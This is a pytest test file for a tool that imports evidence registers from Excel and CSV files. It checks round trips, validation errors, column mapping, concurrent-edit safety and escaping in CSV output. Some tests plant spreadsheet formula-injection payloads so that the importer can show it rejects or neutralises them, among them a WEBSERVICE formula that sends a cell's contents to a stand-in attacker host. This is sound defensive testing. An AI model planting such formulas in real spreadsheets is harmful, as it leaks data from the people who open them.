"""Evidence import from spreadsheets: the exported Evidence sheet edited in Excel, and generic registers.

Every import runs through the real CLI (the `cli` fixture); files are read back from disk afterwards.
"""

from __future__ import annotations

import csv
import json
import shutil
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from qiframe import store
from qiframe.exports.matrix import write_matrix
from qiframe.imports.evidence import plan_import
from qiframe.imports.tables import read_table
from tests.conftest import snapshot
from tests.test_matrix import PAYLOAD, copy_example, rich_folder


@pytest.fixture
def rich(tmp_path, prebuilt) -> Path:
    prebuilt(rich_folder, tmp_path / "rich")
    return tmp_path / "rich" / "ev"


def export(root: Path, out: Path) -> Path:
    write_matrix(store.load(root), out)
    return out


def run_import(cli, root: Path, file: Path, *args: str) -> dict:
    result = cli("evidence", "import", file, "-e", root, "--format", "json", *args)
    assert result.code == 0, result.err
    return json.loads(result.out)


def evidence_files(root: Path) -> dict[str, str]:
    return {p.name: p.read_text(encoding="utf-8") for p in sorted((root / "evidence").glob("*.yaml"))}


def sheet_row(ws, ident: str) -> int:
    return next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == ident)


def column(ws, header: str) -> int:
    return next(c for c in range(1, ws.max_column + 1) if ws.cell(1, c).value == header)


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


# --- the round trip ----------------------------------------------------------------------------------


def test_export_edit_two_rows_add_one_then_import(cli, tmp_path):
    root = copy_example(tmp_path)
    out = export(root, tmp_path / "matrix.xlsx")
    before = store.load(root)
    wb = openpyxl.load_workbook(out)
    ws = wb["Evidence"]
    first, second = [ws.cell(r, 1).value for r in (2, 3)]
    ws.cell(sheet_row(ws, first), column(ws, "Title")).value = "Retitled in Excel"
    row = sheet_row(ws, second)
    ws.cell(row, column(ws, "Source")).value = "observation"
    ws.cell(row, column(ws, "Indicators")).value = "2.1; 9.2"
    ws.cell(row, column(ws, "Date")).value = datetime(2025, 11, 3)
    new_row = ws.max_row + 1
    for header, value in (
        ("Title", "Walkround of the duty team"),
        ("Kind", "observation"),
        ("Source", "observation"),
        ("Date", datetime(2026, 1, 20)),
        ("Indicators", "5.2, 5.3"),
        ("Submission", "yes"),
    ):
        ws.cell(new_row, column(ws, header)).value = value
    wb.save(out)

    report = run_import(cli, root, out)
    assert report["summary"] == {"new": 1, "changed": 2, "unchanged": len(before.evidence) - 2, "rejected": 0}
    changed = {r["id"]: r["changes"] for r in report["rows"] if r["action"] == "changed"}
    assert changed[first] == {"title": {"old": before.evidence[first].title, "new": "Retitled in Excel"}}
    assert set(changed[second]) >= {"source", "indicators", "date"}
    assert report["written"] is True

    after = store.load(root)
    assert after.evidence[first].title == "Retitled in Excel"
    assert after.evidence[second].source == "observation"
    assert after.evidence[second].indicators == ("2.1", "9.2")
    assert after.evidence[second].date == "2025-11-03"
    [(row_number, new_id)] = [(c["row"], c["id"]) for c in report["created"]]
    assert row_number == new_row
    added = after.evidence[new_id]
    assert (added.title, added.kind, added.source, added.date, added.indicators, added.submission) == (
        "Walkround of the duty team",
        "observation",
        "observation",
        "2026-01-20",
        ("5.2", "5.3"),
        True,
    )
    # Nothing else moved.
    for ident, item in before.evidence.items():
        if ident not in (first, second):
            assert after.evidence[ident] == item

    # The same file again changes nothing, and writes nothing.
    files = snapshot(root)
    again = run_import(cli, root, out)
    assert again["summary"]["changed"] == 0 and again["summary"]["new"] == 0
    assert again["summary"]["unchanged"] == len(again["rows"]) == len(report["rows"])
    assert snapshot(root) == files


def test_an_unedited_export_imports_as_unchanged_even_with_tricky_text(cli, rich, tmp_path):
    out = export(rich, tmp_path / "m.xlsx")
    files = snapshot(rich)
    report = run_import(cli, rich, out)
    exported = len(store.load(rich).evidence) - 1  # the personal-data item is not in the sheet
    assert report["summary"] == {"new": 0, "changed": 0, "unchanged": exported, "rejected": 0}
    assert snapshot(rich) == files


def test_comments_survive_an_import(cli, rich, tmp_path):
    path = rich / "evidence" / "E-aaaaa2.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(
        text.replace("title:", "# Checked with the audit team in May\ntitle:", 1)
        + "# end note kept by hand\n",
        encoding="utf-8",
    )
    out = export(rich, tmp_path / "m.xlsx")
    wb = openpyxl.load_workbook(out)
    ws = wb["Evidence"]
    ws.cell(sheet_row(ws, "E-aaaaa2"), column(ws, "Agency")).value = "Health board"
    wb.save(out)
    report = run_import(cli, rich, out)
    assert report["summary"]["changed"] == 1
    updated = path.read_text(encoding="utf-8")
    assert "# Checked with the audit team in May\n" in updated
    assert "# end note kept by hand" in updated
    assert "agency: Health board" in updated
    assert store.load(rich).evidence["E-aaaaa2"].agency == "Health board"


# --- rejection ---------------------------------------------------------------------------------------


def test_a_rejected_row_means_nothing_is_written(cli, rich, tmp_path):
    out = export(rich, tmp_path / "m.xlsx")
    wb = openpyxl.load_workbook(out)
    ws = wb["Evidence"]
    ws.cell(sheet_row(ws, "E-aaaaa2"), column(ws, "Owner")).value = "New owner"  # a good change
    bad = sheet_row(ws, "E-aaaaa3")
    ws.cell(bad, column(ws, "Kind")).value = "rumour"  # a bad one
    wb.save(out)
    files = snapshot(rich)
    result = cli("evidence", "import", out, "-e", rich)
    assert result.code == 2
    assert f"row {bad}: rejected: Kind 'rumour' is not one of:" in result.out
    assert "1 row(s) rejected, so nothing was written" in result.err
    assert result.err.startswith("qiframe: error: ") and out.name in result.err
    assert "Traceback" not in result.err
    assert snapshot(rich) == files

    # The dry run predicts the same and also writes nothing.
    result = cli("evidence", "import", out, "-e", rich, "--dry-run")
    assert result.code == 2 and snapshot(rich) == files

    # --skip-invalid writes the good row only.
    result = cli("evidence", "import", out, "-e", rich, "--skip-invalid")
    assert result.code == 0, result.err
    after = store.load(rich)
    assert after.evidence["E-aaaaa2"].owner == "New owner"
    assert after.evidence["E-aaaaa3"].kind == "other"


@pytest.mark.parametrize(
    "header, value, reason",
    [
        ("Kind", "rumour", "Kind 'rumour' is not one of"),
        ("Source", "gossip", "Source 'gossip' is not one of"),
        ("Date", "next Tuesday", "Date 'next Tuesday' is not a date"),
        ("Date", "31/02/2025", "is not a date"),
        ("Indicators", "2.1; 99.9", "'99.9' is not an indicator of framework"),
        ("Submission", "perhaps", "Submission 'perhaps' is not yes or no"),
        ("ID", "E-zzzzzz", "no evidence item 'E-zzzzzz' in the register"),
        ("Title", "", "the title is empty"),
        ("Title", "=1+1", "formula in column 'Title'; type the value instead"),
        ("Units", "S9", "'S9' is not a unit of programme"),
    ],
)
def test_invalid_values_are_rejected_with_a_reason(cli, tmp_path, header, value, reason):
    root = copy_example(tmp_path)
    out = export(root, tmp_path / "m.xlsx")
    wb = openpyxl.load_workbook(out)
    ws = wb["Evidence"]
    ws.cell(3, column(ws, header)).value = value
    wb.save(out)
    files = snapshot(root)
    result = cli("evidence", "import", out, "-e", root, "--format", "json")
    assert result.code == 2
    report = json.loads(result.out)
    [rejected] = [r for r in report["rows"] if r["action"] == "rejected"]
    assert rejected["row"] == 3
    assert reason in rejected["reason"]
    assert report["written"] is False
    assert snapshot(root) == files


def test_a_formula_in_the_sheet_is_rejected_not_evaluated(cli, rich, tmp_path):
    out = export(rich, tmp_path / "m.xlsx")
    wb = openpyxl.load_workbook(out)
    ws = wb["Evidence"]
    row = sheet_row(ws, "E-aaaaa2")
    ws.cell(row, column(ws, "What it shows")).value = '=WEBSERVICE("http://attacker.invalid/?"&A1)'
    assert ws.cell(row, column(ws, "What it shows")).data_type == "f"  # a real formula cell
    new = ws.max_row + 1
    ws.cell(new, column(ws, "Title")).value = "=2+2"
    wb.save(out)
    files = snapshot(rich)
    result = cli("evidence", "import", out, "-e", rich, "--format", "json")
    assert result.code == 2
    rows = {r["row"]: r for r in json.loads(result.out)["rows"]}
    assert rows[row]["reason"] == "formula in column 'What it shows'; type the value instead"
    assert rows[new]["reason"] == "formula in column 'Title'; type the value instead"
    assert snapshot(rich) == files
    # Skipping the invalid rows still stores neither the formula nor a computed value.
    result = cli("evidence", "import", out, "-e", rich, "--skip-invalid")
    assert result.code == 0
    texts = "".join(evidence_files(rich).values())
    assert "WEBSERVICE" not in texts and "2+2" not in texts and "title: '4'" not in texts


def test_a_corrupt_workbook_is_refused_naming_the_file(cli, rich, tmp_path):
    bad = tmp_path / "broken.xlsx"
    bad.write_bytes(b"PK\x03\x04 this is not really a workbook")
    files = snapshot(rich)
    result = cli("evidence", "import", bad, "-e", rich)
    assert result.code == 2
    assert "broken.xlsx" in result.err and "Traceback" not in result.err
    assert len(result.err.strip().splitlines()) == 1
    assert snapshot(rich) == files


def test_a_missing_sheet_is_refused(cli, rich, tmp_path):
    out = export(rich, tmp_path / "m.xlsx")
    result = cli("evidence", "import", out, "-e", rich, "--sheet", "Nope")
    assert result.code == 2 and "no sheet 'Nope'" in result.err


# --- generic registers -------------------------------------------------------------------------------


def test_a_generic_csv_maps_aliases_and_imports_twice_without_change(cli, rich, tmp_path):
    path = write_csv(
        tmp_path / "register.csv",
        [
            ["Evidence", "What it shows", "Type", "Triangulation", "QIs", "Link", "Date", "Held by", "Notes"],
            [
                "Team meeting minutes",
                "Decisions on caseloads",
                "Minutes",
                "Documentation",
                "safe-care, VOICE",
                "https://example.org/m",
                "03/02/2026",
                "Team manager",
                "keep",
            ],
            [
                "Parent survey 2026",
                "Most parents felt heard",
                "Survey",
                "people's views",
                "voice",
                "",
                "2026-02-10",
                "Participation officer",
                "",
            ],
        ],
    )
    report = run_import(cli, rich, path, "--map", "Held by=owner")
    assert report["columns"] == {
        "Evidence": "title",
        "What it shows": "summary",
        "Type": "kind",
        "Triangulation": "source",
        "QIs": "indicators",
        "Link": "location",
        "Date": "date",
        "Held by": "owner",
    }
    assert report["ignored"] == ["Notes"]
    assert report["summary"] == {"new": 2, "changed": 0, "unchanged": 0, "rejected": 0}
    items = {e.title: e for e in store.load(rich).evidence.values()}
    minutes = items["Team meeting minutes"]
    assert (minutes.kind, minutes.source, minutes.indicators, minutes.date, minutes.owner) == (
        "minutes",
        "documentation",
        ("safe-care", "voice"),
        "2026-02-03",
        "Team manager",
    )
    assert items["Parent survey 2026"].source == "views"

    files = snapshot(rich)
    again = run_import(cli, rich, path, "--map", "Held by=owner")
    assert again["summary"] == {"new": 0, "changed": 0, "unchanged": 2, "rejected": 0}
    assert snapshot(rich) == files

    # An id-less row whose title matches an item updates that item rather than adding a twin.
    path = write_csv(tmp_path / "register2.csv", [["Name", "Owner"], ["Parent survey 2026", "Someone else"]])
    third = run_import(cli, rich, path)
    assert third["summary"] == {"new": 0, "changed": 1, "unchanged": 0, "rejected": 0}
    assert store.load(rich).evidence[third["rows"][0]["id"]].owner == "Someone else"


def test_map_errors_are_input_errors(cli, rich, tmp_path):
    path = write_csv(tmp_path / "r.csv", [["Evidence", "Notes"], ["A", "b"]])
    for args, message in (
        (("--map", "Nope=title"), "no column 'Nope'"),
        (("--map", "Notes=colour"), "no field 'colour'"),
        (("--map", "Notes"), "expected COLUMN=field"),
        (("--map", "Notes=title"), "both give the title field"),
    ):
        result = cli("evidence", "import", path, "-e", rich, *args)
        assert result.code == 2, args
        assert message in result.err, (args, result.err)
    path = write_csv(tmp_path / "s.csv", [["Colour", "Size"], ["red", "big"]])
    result = cli("evidence", "import", path, "-e", rich)
    assert result.code == 2 and "no column gives a title or an id" in result.err


def test_plan_is_a_library_call_that_writes_nothing(rich, tmp_path):
    out = export(rich, tmp_path / "m.xlsx")
    files = snapshot(rich)
    plan = plan_import(store.load(rich), read_table(out, "Evidence"))
    assert plan.summary()["unchanged"] == len(plan.rows) > 0
    assert {r.id for r in plan.rows} == {e for e in store.load(rich).evidence if e != "E-aaaaa4"}
    assert snapshot(rich) == files
    assert PAYLOAD in {store.load(rich).evidence[r.id].title for r in plan.rows}


def test_text_report_lists_rows(cli, rich, tmp_path):
    path = write_csv(tmp_path / "r.csv", [["Title", "Indicators"], ["Fresh item", "voice"], ["", "voice"]])
    shutil.copy(path, tmp_path / "copy.csv")
    result = cli("evidence", "import", path, "-e", rich, "--dry-run", "--skip-invalid")
    assert result.code == 0, result.err
    assert "row 2: new: Fresh item" in result.out
    assert "row 3: rejected: the title is empty" in result.out
    assert "1 new, 0 changed, 0 unchanged, 1 rejected" in result.out
    assert "Dry run: nothing written." in result.err
    assert "Fresh item" not in "".join(evidence_files(rich).values())


def test_an_item_edited_after_planning_stops_the_whole_import(tmp_path):
    """Compare-and-swap under the lock: a concurrent edit is never overwritten, and nothing is half-written."""
    from qiframe import store
    from qiframe.errors import InputError
    from qiframe.imports import evidence as importer
    from tests.conftest import snapshot

    root = store.init(tmp_path / "ev", "ci-care-protection-2019", "risk-of-harm-2021")
    item = store.add_evidence(root, title="Staff survey", source="views", indicators=["2.1"])
    sheet = tmp_path / "in.csv"
    sheet.write_text(
        f"ID,Title,Source\n{item.id},Staff survey 2026,views\n,A new item,data\n", encoding="utf-8"
    )
    plan = importer.plan_import(store.load(root), importer.read(sheet), {})
    assert [r.action for r in plan.rows] == ["changed", "new"]
    store.update_evidence(root, item.id, {"title": "Renamed by a colleague meanwhile"})
    before = snapshot(root)
    with pytest.raises(InputError, match="changed while the import was being prepared"):
        importer.apply_import(root, plan)
    assert snapshot(root) == before


def test_csv_listing_guards_formulas_and_imports_back_unchanged(tmp_path, cli):
    from qiframe import store

    root = store.init(tmp_path / "ev", "ci-care-protection-2019", "risk-of-harm-2021")
    risky = '=HYPERLINK("http://x","y")'
    store.add_evidence(root, title=risky, summary="-2 points on last year", source="data", indicators=["2.1"])
    store.add_evidence(root, title="Plain title", source="views", indicators=["2.1"])
    listing = cli("evidence", "list", "--format", "csv", "-e", root)
    assert listing.code == 0
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(listing.out)))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]  # nothing a spreadsheet would run
    assert f"'{risky}" in cells and "'-2 points on last year" in cells
    sheet = tmp_path / "list.csv"
    sheet.write_text(listing.out, encoding="utf-8")
    result = cli("evidence", "import", sheet, "--format", "json", "-e", root)
    assert result.code == 0, result.err
    import json

    actions = [r["action"] for r in json.loads(result.out)["rows"]]
    assert actions == ["unchanged", "unchanged"]
    assert {e.title for e in store.load(root).evidence.values()} == {risky, "Plain title"}
